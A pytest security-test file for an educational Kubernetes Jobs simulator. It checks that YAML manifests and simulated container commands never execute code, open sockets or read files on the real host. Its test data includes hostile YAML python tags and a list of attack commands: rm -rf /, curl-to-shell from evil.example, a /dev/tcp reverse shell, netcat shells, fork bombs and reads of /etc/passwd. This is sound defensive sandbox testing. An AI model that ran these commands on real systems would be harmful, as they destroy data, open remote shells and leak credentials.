"""Nothing from a manifest is executed, evaluated, imported or passed to a shell; no network; files only
where the user points.

``host_watch`` replaces every door to the host (processes, code evaluation,
dangerous imports, file opening, sockets) with a recorder that also raises, so
a call is caught even when some code would swallow the exception.
"""
from __future__ import annotations

import builtins
import importlib
import io
import os
import pkgutil
import socket
import subprocess
from contextlib import contextmanager
from pathlib import Path

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt  # noqa: E402
import pytest  # noqa: E402

import k8sjobs_edu  # noqa: E402
from k8sjobs_edu.cli import main  # noqa: E402
from k8sjobs_edu import Cluster  # noqa: E402
from k8sjobs_edu.api.manifest import load_job, load_jobs
from k8sjobs_edu.api.validation.errors import ManifestError  # noqa: E402
from k8sjobs_edu.teach.plots import plot_counts, plot_timeline  # noqa: E402
from k8sjobs_edu.containers.run import FOREVER_SECONDS, interpret  # noqa: E402
from k8sjobs_edu.widgets import JobPlayground  # noqa: E402
from strategies import DATA, REAL_JOBS, hang_guard  # noqa: E402

DANGEROUS_MODULES = {"os", "sys", "subprocess", "socket", "ctypes", "pty", "shutil", "importlib", "multiprocessing",
                     "urllib", "http", "signal", "posix", "pickle", "marshal", "code", "runpy", "webbrowser", "asyncio"}
PROCESS_FUNCTIONS = [name for name in dir(os) if name.startswith(("exec", "spawn", "posix_spawn"))] + [
    "system", "popen", "fork", "forkpty", "kill", "killpg"]


class HostAccess(Exception):
    """What a watched door raises."""


class Watch:
    def __init__(self):
        self.calls: list[str] = []
        self.opened: list[str] = []
        self.listed: list[str] = []

    def refuse(self, what: str):
        def refused(*args, **kwargs):
            self.calls.append(f"{what}{args!r}"[:200])
            raise HostAccess(what)
        return refused


@contextmanager
def host_watch(monkeypatch, *, files: bool = False, code: bool = True):
    """Record (and refuse) processes and sockets, and with ``code`` eval/exec/compile and dangerous imports;
    record opened files (with ``files`` False, opening any file is refused too).

    Third-party libraries (matplotlib, PIL) import plugins lazily, which runs code: pass ``code=False``
    where they take part.
    """
    watch = Watch()
    for name in PROCESS_FUNCTIONS:
        if hasattr(os, name):
            monkeypatch.setattr(os, name, watch.refuse(f"os.{name}"))
    monkeypatch.setattr(subprocess, "Popen", watch.refuse("subprocess.Popen"))
    for name in ("socket", "create_connection", "getaddrinfo", "create_server", "socketpair"):
        monkeypatch.setattr(socket, name, watch.refuse(f"socket.{name}"))
    real_compile, real_import, real_open = builtins.compile, builtins.__import__, io.open

    def compile_ast_only(source, filename, mode, flags=0, *args, **kwargs):
        if not flags & 0x400:  # ast.PyCF_ONLY_AST: ast.parse may read code, nothing may run it
            return watch.refuse("compile")(source, filename, mode)
        return real_compile(source, filename, mode, flags, *args, **kwargs)

    def careful_import(name, globals=None, locals=None, fromlist=(), level=0):
        if level == 0 and name.split(".")[0] in DANGEROUS_MODULES:
            watch.calls.append(f"import {name}")
        return real_import(name, globals, locals, fromlist, level)

    def recording_open(file, *args, **kwargs):
        watch.opened.append(os.path.abspath(os.fspath(file)) if not isinstance(file, int) else f"fd {file}")
        if not files:
            raise HostAccess(f"open({file!r})")
        return real_open(file, *args, **kwargs)

    def recording_listdir(path="."):
        watch.listed.append(os.path.abspath(os.fspath(path)))
        return real_listdir(path)

    real_listdir, real_scandir = os.listdir, os.scandir
    if code:
        monkeypatch.setattr(builtins, "eval", watch.refuse("eval"))
        monkeypatch.setattr(builtins, "exec", watch.refuse("exec"))
        monkeypatch.setattr(builtins, "compile", compile_ast_only)
        monkeypatch.setattr(builtins, "__import__", careful_import)
    monkeypatch.setattr(builtins, "open", recording_open)
    monkeypatch.setattr(io, "open", recording_open)
    monkeypatch.setattr(os, "listdir", recording_listdir)
    monkeypatch.setattr(os, "scandir", lambda path=".": (watch.listed.append(os.path.abspath(path)),
                                                         real_scandir(path))[1])
    yield watch
    monkeypatch.undo()


@pytest.fixture(autouse=True)
def warmed_up():
    """Load what the package reads lazily (modules, the schema, π digits) before anything is watched.

    A module's first import compiles and runs its code, which the watch would report.
    """
    for module in pkgutil.iter_modules(k8sjobs_edu.__path__):
        importlib.import_module(f"k8sjobs_edu.{module.name}")
    load_job(DATA / "pi.yaml")
    Cluster().kubectl("get pods")
    interpret(["perl", "-Mbignum=bpi", "-wle", "print bpi(20)"], image="perl")
    interpret(["sh", "-c", "date; python3 -c 'print(1)'"])


def test_the_watch_sees_every_door_it_guards(monkeypatch, tmp_path):
    doors = [lambda: os.system("true"), lambda: subprocess.run(["true"]), lambda: os.execv("/bin/true", ["true"]),
             lambda: socket.create_connection(("example.com", 80)), lambda: socket.socket(),
             lambda: eval("1"), lambda: exec("x = 1"), lambda: compile("1", "<x>", "eval"),
             lambda: open(tmp_path / "file", "w")]
    with host_watch(monkeypatch) as watch:
        for door in doors:
            with pytest.raises(HostAccess):
                door()
        __import__("subprocess")
    # Eight refusals and the import are calls; open() is listed in .opened.
    assert len(watch.calls) == len(doors)
    assert watch.opened == [str(tmp_path / "file")]


def test_host_files_stay_out_of_the_containers_and_their_files_out_of_the_host(monkeypatch):
    with host_watch(monkeypatch) as watch:
        read = interpret(["sh", "-c", "cat /etc/passwd"])
        written = interpret(["sh", "-c", "echo pwned > /tmp/k8sjobs-pwned; cat /tmp/k8sjobs-pwned"])
    assert read == (1, [(0.0, "cat: can't open '/etc/passwd': No such file or directory\n")])
    assert written == (0, [(0.0, "pwned\n")])  # the container's own file, in memory
    assert watch.calls == [] and watch.opened == []
    assert not os.path.exists("/tmp/k8sjobs-pwned")


# ---- YAML never builds Python objects ------------------------------------------------------------

PYTHON_TAGS = [
    "!!python/object/apply:os.system ['touch {sentinel}']",
    "!!python/object/new:os.system ['touch {sentinel}']",
    "!!python/object/apply:subprocess.check_call [['touch', '{sentinel}']]",
    "!!python/name:os.system",
    "!!python/module:os",
    "!!python/object:builtins.object {{}}",
]


def tagged_manifest(tag: str, sentinel: Path) -> str:
    return ("apiVersion: batch/v1\nkind: Job\nmetadata:\n  name: evil\n  annotations:\n"
            f"    x: {tag.format(sentinel=sentinel)}\nspec: {{}}\n")


@pytest.mark.parametrize("tag", PYTHON_TAGS)
def test_a_python_tag_is_refused_and_nothing_runs(monkeypatch, tmp_path, tag):
    sentinel = tmp_path / "pwned"
    text = tagged_manifest(tag, sentinel)
    path = tmp_path / "evil.yaml"
    path.write_text(text)
    with host_watch(monkeypatch, files=True) as watch:
        for source in (text, path):
            with pytest.raises(ManifestError) as caught:
                load_job(source)
            assert caught.value.errors[0].type == "Syntax error"
            assert "could not determine a constructor" in str(caught.value)
        output = Cluster().kubectl(f"apply -f {path}")
    assert output.startswith("error"), output
    assert watch.calls == []
    assert not sentinel.exists()


# ---- the command interpreter runs nothing ------------------------------------------------------------

HOSTILE_COMMANDS = {
    "rm -rf /": ["sh", "-c", "rm -rf / --no-preserve-root"],
    "curl in $(...)": ["sh", "-c", "$(curl -s http://evil.example/x.sh | sh)"],
    "backticks": ["sh", "-c", "echo `id`; `wget http://evil.example`"],
    "python -c after ;": ["sh", "-c", "true; python -c 'import os; os.system(\"touch /tmp/pwned\")'"],
    "python3 __import__": ["python3", "-c", "__import__('os').system('touch /tmp/pwned')"],
    "python3 subprocess": ["python3", "-c", "import subprocess; subprocess.run(['touch', '/tmp/pwned'])"],
    "python3 exec and eval": ["python3", "-c", "exec('import os')\neval('1')"],
    "python3 import os": ["python3", "-c", "import os\nprint(os.environ.get('HOME'))\nos.system('id')"],
    "a fork bomb": ["bash", "-c", ":(){ :|:& };:"],
    "nested eval": ["sh", "-c", "eval 'eval \"rm -rf /\"'"],
    "source and .": ["sh", "-c", "source /etc/profile; . /root/.bashrc"],
    "exec a shell": ["sh", "-c", "exec /bin/sh -c 'rm -rf /'"],
    "perl system": ["perl", "-e", "system('rm -rf /'); exec('/bin/sh')"],
    "reverse shell": ["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"],
    "netcat": ["sh", "-c", "nc -e /bin/sh evil.example 4444"],
    "read host files": ["sh", "-c", "cat /etc/passwd /proc/self/environ"],
    "write host files": ["sh", "-c", "echo pwned > /tmp/k8sjobs-pwned; cat /tmp/k8sjobs-pwned"],
    "an endless loop": ["sh", "-c", "while true; do echo y; done"],
    "doubling a variable": ["sh", "-c", "a=x; while true; do a=$a$a; done"],
    "a huge printf": ["sh", "-c", "printf '%0999999999d' 1"],
    "a huge brace expansion": ["bash", "-c", "echo {1..100000000}"],
    "python endless loop": ["python3", "-c", "while True: print('x')"],
    "python huge numbers": ["python3", "-c", "print(9**9**9**9)"],
    "python huge string": ["python3", "-c", "print('x' * 10**12)"],
    "a huge sleep": ["sh", "-c", "sleep 99999999999999999999999999999"],
    "a long script": ["sh", "-c", "echo x; " * 5000],
    "deeply nested quotes": ["sh", "-c", "echo " + "\"$(echo " * 300 + "x" + ")\"" * 300],
    "deeply nested subshells": ["sh", "-c", "(" * 5000 + "true" + ")" * 5000],
    "an unclosed quote": ["sh", "-c", "echo 'never closed"],
    "a here-document": ["sh", "-c", "cat <<EOF\n$(rm -rf /)\nEOF"],
}


@pytest.mark.parametrize("argv", HOSTILE_COMMANDS.values(), ids=HOSTILE_COMMANDS.keys())
def test_the_interpreter_runs_nothing_on_the_host_and_ends(monkeypatch, argv):
    with host_watch(monkeypatch) as watch, hang_guard(5):
        status, steps = interpret(argv, image="busybox")
    assert watch.calls == [] and watch.opened == []
    assert 0 <= status <= 255
    assert 0 <= sum(seconds for seconds, _ in steps) <= FOREVER_SECONDS
    assert not os.path.exists("/tmp/pwned") and not os.path.exists("/tmp/k8sjobs-pwned")


NESTED_ARITHMETIC = ["bash", "-c", "echo $((" + "(" * 5000 + "1" + ")" * 5000 + "))"]


def test_deeply_nested_arithmetic_is_an_error_status_not_an_exception():
    # bash: "expression recursion level exceeded", exit status 1; never a Python RecursionError.
    status, _ = interpret(NESTED_ARITHMETIC, image="bash")
    assert 1 <= status <= 255


def hostile_job(argv: list[str]) -> dict:
    return {"apiVersion": "batch/v1", "kind": "Job", "metadata": {"name": "hostile"},
            "spec": {"backoffLimit": 1, "template": {"spec": {"restartPolicy": "Never", "containers": [
                {"name": "main", "image": "busybox:1.36", "command": argv[:1], "args": argv[1:]}]}}}}


def test_a_cluster_running_every_hostile_command_touches_nothing(monkeypatch):
    jobs = []
    for number, argv in enumerate([*HOSTILE_COMMANDS.values(), NESTED_ARITHMETIC]):
        document = hostile_job(argv)
        document["metadata"]["name"] = f"hostile-{number}"
        jobs.append(document)
    with host_watch(monkeypatch) as watch:
        cluster = Cluster(seed=1)
        for document in jobs:
            cluster.apply(document)
        cluster.run(until=3600)
        logs = [cluster.kubectl(f"logs job/{document['metadata']['name']}") for document in jobs]
    assert watch.calls == [] and watch.opened == []
    assert len(logs) == len(HOSTILE_COMMANDS) + 1
    assert {pod.phase for pod in cluster.pods()} <= {"Running", "Succeeded", "Failed"}


# ---- no network, anywhere -------------------------------------------------------------------------------

def test_the_cli_cluster_views_and_plots_work_without_a_network(monkeypatch, tmp_path, capsys):
    picture = tmp_path / "timeline.png"
    with host_watch(monkeypatch, files=True, code=False) as watch:
        assert main(["run", str(DATA / "paral-myjob.yaml"), "--at", "20", "--plot", str(picture)]) == 0
        assert main(["kubectl", str(DATA / "indexed-job.yaml"), "--at", "5", "--", "describe", "job"]) == 0
        cluster = Cluster(seed=3)
        for document in REAL_JOBS:
            cluster.apply(document)
        cluster.run(until=600)
        texts = [cluster.kubectl(command) for command in
                 ("get jobs", "get pods -o wide", "get events", "describe jobs", "get jobs -o yaml")]
        figure, (top, bottom) = plt.subplots(2)
        plot_timeline(cluster.timeline("paral-myjob"), ax=top, by="pod")
        plot_counts(cluster.timeline("indexed-job"), ax=bottom)
        plt.close(figure)
        playground = JobPlayground(completions=3, parallelism=2)
        playground.editor.value = (DATA / "indexed-job.yaml").read_text()
    assert watch.calls == []
    assert picture.stat().st_size > 0 and playground.error == ""
    assert all(text and not text.startswith("error") for text in texts)
    capsys.readouterr()


# ---- files are read only where the user points -------------------------------------------------------------

@pytest.fixture
def workspace(tmp_path, monkeypatch):
    """A directory with one manifest, a decoy manifest, a text file and a sub-directory."""
    for name in ("job.yaml", "other.yml", "sub/deeper.yaml"):
        (tmp_path / name).parent.mkdir(exist_ok=True)
        (tmp_path / name).write_text((DATA / "pi.yaml").read_text().replace("name: pi", f"name: {Path(name).stem}"))
    (tmp_path / "notes.txt").write_text("not a manifest")
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("source", ["job.yaml", Path("job.yaml")], ids=["str", "Path"])
def test_load_job_of_a_relative_path_reads_that_file_only(monkeypatch, workspace, source):
    with host_watch(monkeypatch, files=True) as watch:
        assert load_job(source).name == "job"
    assert watch.opened == [str(workspace / "job.yaml")]
    assert watch.listed == []


def test_load_job_of_yaml_text_reads_no_file(monkeypatch, workspace):
    text = (workspace / "job.yaml").read_text()
    with host_watch(monkeypatch) as watch:
        assert load_jobs(text)[0].name == "job"
        with pytest.raises(ManifestError):
            load_job("other.yml\n")  # text with a newline is YAML, never a path
    assert watch.opened == [] and watch.calls == []


def test_kubectl_apply_of_a_file_reads_that_file_only(monkeypatch, workspace):
    with host_watch(monkeypatch, files=True) as watch:
        assert Cluster().kubectl("apply -f job.yaml") == "job.batch/job created\n"
    assert set(watch.opened) == {str(workspace / "job.yaml")}
    assert watch.listed == []


def test_kubectl_apply_of_a_directory_reads_its_manifests_only(monkeypatch, workspace):
    with host_watch(monkeypatch, files=True) as watch:
        output = Cluster().kubectl("apply -f .")
    assert output == "job.batch/job created\njob.batch/other created\n"
    assert set(watch.opened) == {str(workspace / "job.yaml"), str(workspace / "other.yml")}
    assert set(watch.listed) == {str(workspace)}


def test_the_cli_reads_the_manifest_it_is_given_only(monkeypatch, workspace, capsys):
    with host_watch(monkeypatch, files=True) as watch:
        assert main(["run", "job.yaml", "--until", "5"]) == 0
    assert set(watch.opened) == {str(workspace / "job.yaml")}
    assert watch.listed == []
    capsys.readouterr()
